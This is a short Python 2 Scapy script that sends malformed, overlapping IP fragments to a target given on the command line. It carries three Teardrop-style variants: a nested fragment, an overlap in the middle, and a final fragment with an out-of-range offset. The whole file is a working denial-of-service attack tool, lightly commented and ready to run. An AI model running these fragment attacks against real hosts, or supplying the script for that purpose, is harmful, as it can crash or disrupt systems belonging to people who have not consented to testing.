#!/usr/bin/python
# Teardrop and its relatives: fragments that overlap.  (Python 2)
from scapy.all import *
import sys

target = sys.argv[1]
attack = sys.argv[2]
size = 36
load = "\x00" * size

print "Attacking target " + target + " with attack " + attack
if attack == '0':
    # the second lies within the first
    offset, load2 = 3, "\x00" * 4
    i = IP(dst=target, flags="MF", proto=17, id=12)
    j = IP(dst=target, flags=0, proto=17, frag=offset, id=12)
    send([i/load, j/load2], verbose=0)
elif attack == '1':
    # they overlap in their middle
    i = IP(dst=target, flags="MF", proto=17, id=13)
    j = IP(dst=target, flags=0, proto=17, frag=2, id=13)
    send(i/load, verbose=0)
    send(j/load, verbose=0)
elif attack == '2':
    # a last one far outside of what IP can hold
    i = IP(dst=target, flags="MF", proto=17, id=14)
    j = IP(dst=target, frag=8189, flags=0, proto=17, id=14)
    send(i/load, verbose=0)
    send(j/("\x00" * 300), verbose=0)
else:
    raise ValueError, "no such attack"
print "Done!"
